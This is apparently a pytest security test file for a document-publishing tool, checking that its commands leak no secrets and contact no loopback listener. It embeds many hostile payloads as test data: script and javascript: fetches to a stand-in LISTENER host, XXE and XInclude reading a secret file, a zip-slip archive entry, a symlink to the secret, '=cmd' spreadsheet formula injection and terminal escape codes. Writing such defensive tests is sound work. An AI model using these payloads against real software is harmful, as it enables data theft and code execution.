"""Whole commands under attack: nothing reaches a listener, no secret comes out, no traceback.

A stranger's project lies beside a secret; somebody listens on the loopback. Every command that
opens what strangers made is run once, as an editor runs it. What is only a cage's work is done
again with the cages open, when the listener must hear of it.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import msgspec
import pypdfium2
import pytest
from faircopy.proof import static
from faircopy.publish import console
from faircopy.publish.project import Project

from tests.listening import Listener, listening
from tests.proof.attacks import book, linked_document, paper_that_runs
from tests.proof.test_cages import open_cages

DOOR = Path(__file__).parents[1] / "pipeline/faircopy/__main__.py"
SECRET = "the-secret-of-this-machine"
SLUG = "evil"

pytestmark = [pytest.mark.slow, pytest.mark.needs("chromium", "node", "java", "soffice")]

FRONT = """---
title: "Evil [x](javascript:fetch('http://LISTENER/t')) <script>fetch('LISTENER')</script>"
subtitle: "Sub ![p](http://LISTENER/sub.png){onload=\\"fetch('http://LISTENER/s')\\"}"
byline: "[x](javascript:alert(1)) [y](file://SECRET)"
lang: en-GB
kind: article
date: 2026-02-05
author: "Jane `<img src=http://LISTENER/a onerror=x>`{=html}"
publisher: "\\\\\\\\LISTENER\\\\share"
references:
- id: a
  type: book
  title: "x <img src='http://LISTENER/ref'> [y](file://SECRET)"
  author: [{family: "http://LISTENER/"}]
  URL: "javascript:alert(1)"
---
"""
TEXT = """
## One {onclick="fetch('http://LISTENER/h')" style="background:url(http://LISTENER/bg)"}

![A gauge](a.svg){onload="fetch('http://LISTENER/i')" srcset="http://LISTENER/ss 2x" ping="x"}

<script>fetch("http://LISTENER/s2")</script>
<img src="a.svg" alt="A mark" srcset="http://LISTENER/2x" onerror="fetch('http://LISTENER/raw')">
<iframe src="http://LISTENER/frame"></iframe>
<style>p{background:url(http://LISTENER/p)}</style>
<link rel="stylesheet" href="http://LISTENER/l.css">
<object data="http://LISTENER/o"></object><embed src="http://LISTENER/e"><svg onload="a()"/></svg>

[a](javascript:fetch('http://LISTENER/js')) [b](data:text/html,<script>x</script>) [c](file://SECRET)
[d](vbscript:x) [e](\\\\\\\\LISTENER\\\\share) [f](//LISTENER/x) <b onclick="fetch()">bold</b>

```{=openxml}
<w:p><w:r><w:instrText>INCLUDETEXT "SECRET"</w:instrText></w:r></w:p>
```

\\input{SECRET} \\includegraphics{http://LISTENER/x} $x \\le y$

::: {custom-style="Title" onclick="x" data-external=1 .x}
{{< include SECRET >}} and !include SECRET
:::

Text[^1] [@a] `code`{.html onclick="x"} [span]{style="background:url(http://LISTENER/sp)"}.

[^1]: Note <i style="background:url(http://LISTENER/note)">a</i>.

| a | b |
|---|---|
| [x]{onclick="y"} | =cmd\\|'/c calc'!A1 |
| -2+3 | \\@SUM(A1) |
"""
WORSE = """---
title: Worse
lang: en-GB
---

![p](b.svg) ![q](http://LISTENER/remote.png) ![r](SECRET) ![s](../../secret.txt) ![t](link.png)
<img src="http://LISTENER/raw.png" alt="a"> $\\text{\\input{SECRET}}$ ![u](file://SECRET)
![v](c.svg) ![w](data:image/svg+xml,<svg/>)
"""
PLAIN = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>'
ACTIVE = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://SECRET">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9"
 height="9"><style>@import url(http://LISTENER/css);</style><script>fetch("http://LISTENER/")</script>
 <image xlink:href="http://LISTENER/img.png" width="5" height="5"/><text>&e;</text></svg>"""
SHOWN = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="file://SECRET"
 width="5" height="5"/><rect style="fill:url(http://LISTENER/x#y)" width="3" height="3"/></svg>"""


class Ground(msgspec.Struct, frozen=True):
    """A stranger's project, and who listens."""

    root: Path
    listener: Listener

    def written(self, text: str) -> str:
        """Return a text with the addresses that it attacks."""
        secret = str(self.root.parent / "secret.txt")
        return text.replace("LISTENER", self.listener.address).replace("SECRET", secret)

    def put(self, name: str, text: str | bytes) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else self.written(text).encode())
        return path

    def run(self, *args: str, env: Mapping[str, str] | None = None) -> tuple[int, str]:
        """Run a command; whatever it does, nothing gets out and it ends with words."""
        own = {"FAIRCOPY_PROJECT": str(self.root), "A_TOKEN": SECRET, "CI": "", **(env or {})}
        done = subprocess.run(
            [sys.executable, "-P", str(DOOR), *args],
            cwd=self.root, env=os.environ | own, capture_output=True, check=False, timeout=300,
        )  # fmt: skip
        said = (done.stdout + done.stderr).decode()
        assert done.returncode in (0, 1), said
        assert "Traceback" not in said
        assert SECRET not in said
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", said)
        assert self.listener.heard == []
        return done.returncode, said


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    folder = tmp_path_factory.mktemp("siege")
    (folder / "secret.txt").write_text(f"{SECRET}\n")
    with listening() as listener:
        made = Ground(folder / "project", listener)
        made.put("faircopy.toml", 'pages = ["a5"]\n')
        made.put(f"source/{SLUG}/manuscript.md", FRONT + TEXT)
        made.put(f"source/{SLUG}/a.svg", PLAIN)
        made.put("source/worse/manuscript.md", WORSE)
        made.put("source/worse/b.svg", ACTIVE)
        made.put(
            "source/obeyed/manuscript.md", "---\ntitle: \x1b]0;x\x07 \x9b31m\nlang: en\n---\n\nA.\n"
        )
        made.put("source/worse/c.svg", SHOWN)
        (made.root / "source/worse/link.png").symlink_to("../../../secret.txt")
        yield made


@pytest.fixture(scope="module")
def built(ground: Ground) -> Ground:
    code, said = ground.run("build", "--check")
    assert code == 1, "the worse one was published"
    assert not (ground.root / "dist/worse").exists()
    for found in ("image-active", "image-remote", "image-outside", "control-character"):
        assert f"[{found}]" in said
    assert (ground.root / f"dist/{SLUG}/{SLUG}.en.epub").exists(), said
    return ground


def texts(root: Path) -> Iterator[tuple[Path, str]]:
    """Yield all that can be read of what a project's commands made."""
    for path in sorted(root.rglob("*")):
        if not path.is_file() or "source" in path.relative_to(root).parts[:1]:
            continue
        data = path.read_bytes()
        if zipfile.is_zipfile(io.BytesIO(data)):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                data += b"".join(archive.read(name) for name in archive.namelist())
        if data.startswith(b"%PDF"):
            with pypdfium2.PdfDocument(data) as document:
                data += "".join(page.get_textpage().get_text_range() for page in document).encode()
        yield path, data.decode("utf-8", "replace")


def test_nothing_of_the_machine_is_in_what_was_built(built: Ground) -> None:
    seen = dict(texts(built.root))
    assert len(seen) > 8
    assert not [path for path, text in seen.items() if SECRET in text]


def test_what_was_built_is_static(built: Ground) -> None:
    for path in (built.root / "dist" / SLUG).glob(f"{SLUG}.*"):
        assert static.judge(path.name, path.read_bytes()).findings == ()


def test_the_other_commands_let_nothing_out(built: Ground) -> None:
    assert built.run("lint")[0] == 1
    assert built.run("check", "--manuscript", SLUG)[0] == 0
    code, said = built.run("proof", "--manuscript", SLUG)
    assert code == 0, said
    assert not [path for path, text in texts(built.root) if SECRET in text]


RETURNED = {
    "a.xlf": """<?xml version="1.0"?><!DOCTYPE xliff [<!ENTITY e SYSTEM "file://SECRET">
<!ENTITY % p SYSTEM "http://LISTENER/dtd"> %p;]><xliff version="1.2"
xmlns="urn:oasis:names:tc:xliff:document:1.2"><file source-language="en-GB" target-language="ru"
original="http://LISTENER/o" datatype="x"><header><skl><external-file
href="file://SECRET"/></skl></header><body><trans-unit id="1"><source>&e;</source><target>&e;
</target></trans-unit></body></file>
</xliff>""",
    "a.po": 'msgid ""\nmsgstr "Content-Type: text/plain; charset=SECRET\\n"\n\nmsgid "x\x1b[31m"\n',
    "a.tsv": "id\tsource\ttarget\n=cmd|'/c calc'!A1\t\x1b]0;x\x07\t=HYPERLINK(\"http://LISTENER/\")\n",
    "b.xlf": """<xliff version="2.1" srcLang="en-GB" trgLang="ru"
xmlns="urn:oasis:names:tc:xliff:document:2.0" xmlns:xi="http://www.w3.org/2001/XInclude">
<file id="f"><unit id="1"><segment><source><xi:include href="file://SECRET" parse="text"/></source>
<target><xi:include href="http://LISTENER/x"/></target></segment></unit></file></xliff>""",
    "a.txt": "[1] \x1b[31mSECRET\n= <script src='http://LISTENER/x'></script>\n",
    "a.html": "<p>a<script src='http://LISTENER/x'></script><img src='file://SECRET'></p>",
    "a.tmx": '<!DOCTYPE tmx SYSTEM "http://LISTENER/tmx.dtd"><tmx version="1.4"><body/></tmx>',
}


def test_what_comes_back_lets_nothing_out(built: Ground) -> None:
    assert built.run("translate.export", "--lang", "ru", "--manuscript", SLUG)[0] == 0
    paths = [built.put(f"back/{name}", text) for name, text in RETURNED.items()]
    secret = f"file://{built.root.parent / 'secret.txt'}"
    table = linked_document(f"http://{built.listener.address}/a.png", secret)
    paths.append(built.put("back/a.docx", table))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../../../source/evil/manuscript.md", "owned")
        archive.writestr("/a.xlf", built.written(RETURNED["a.xlf"]))
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(built.root.parent / "secret.txt"))
        archive.writestr("a.docx", table)
    whole = built.put("back/a.zip", out.getvalue())
    for path in (*paths, whole):
        command = ("translate.import", str(path), "--lang", "ru", "--manuscript", SLUG)
        code, said = built.run(*command)
        assert code == 1, path
        assert "error:" in said
    assert not (built.root / "source" / SLUG / "translations").exists()


AWAY = (">/dev/full", "2>/dev/full", ">&-", ">&- 2>&-", "<&-", "| head -c1")


def test_an_output_that_is_not_there_ends_no_command_in_a_traceback(built: Ground) -> None:
    commands = [
        "lint", "build --formats docx", f"check --manuscript {SLUG}", "explain",
        "translate.status", f"translate.export --lang ru --manuscript {SLUG}",
        f"translate.import nowhere.xlf --lang ru --manuscript {SLUG}", "gather dist",
    ]  # fmt: skip
    env = os.environ | {"FAIRCOPY_PROJECT": str(built.root), "DOOR": f"{sys.executable} -P {DOOR}"}
    for number, command in enumerate(commands):
        for how in (AWAY[number % len(AWAY)], AWAY[(number + 3) % len(AWAY)]):
            line = f"{{ $DOOR {command}; }} {how}"
            done = subprocess.run(
                ["bash", "-o", "pipefail", "-c", line],
                cwd=built.root.parent, env=env, capture_output=True, check=False, timeout=300,
            )  # fmt: skip
            assert done.returncode in (0, 1, 141), line
            assert b"Traceback" not in done.stdout + done.stderr, line


@pytest.fixture(scope="module")
def planted(built: Ground) -> Ground:
    """A set in whose place somebody put files that act."""
    address = f"http://{built.listener.address}"
    socket = f"new WebSocket('ws://{built.listener.address}/socket')"
    secret = f"file://{built.root.parent / 'secret.txt'}"
    epub = book(
        f'<p>read</p><script>{socket}</script><img alt="" src="{address}/a.png"/>'
        f'<iframe src="{secret}"></iframe>'
    )
    for name, data in {
        "epub": epub,
        "docx": linked_document(f"{address}/a.png", secret),
        "a5.pdf": paper_that_runs(),
    }.items():
        built.put(f"dist/{SLUG}/{SLUG}.en.{name}", data)
    return built


def test_what_was_planted_is_not_opened(planted: Ground) -> None:
    code, said = planted.run("check", "--manuscript", SLUG)
    assert code == 1
    assert said.count("was not opened") >= 3
    code, said = planted.run("proof", "--manuscript", SLUG)
    assert code == 1
    assert said.count("was not opened") >= 3
    planted.run("doctor")


@contextlib.contextmanager
def no_first_line() -> Iterator[None]:
    """Let everything be opened, as if it were static."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(static, "demand", lambda name, data: None)
        yield


def test_past_the_first_line_the_cages_hold_and_without_them_it_gets_out(planted: Ground) -> None:
    place = Project.at(planted.root)
    with no_first_line():
        console.proof([SLUG], out=str(planted.root.parent / "caged"), project=place)
    assert planted.listener.heard == []
    with no_first_line(), open_cages():
        console.proof([SLUG], out=str(planted.root.parent / "open"), project=place)
    heard = list(planted.listener.heard)
    planted.listener.heard.clear()
    by_office = [one for one in heard if b"LibreOffice" in one]
    assert by_office, "the document reached nobody: it proves nothing"
    assert len(heard) > len(by_office), "nor did the book"
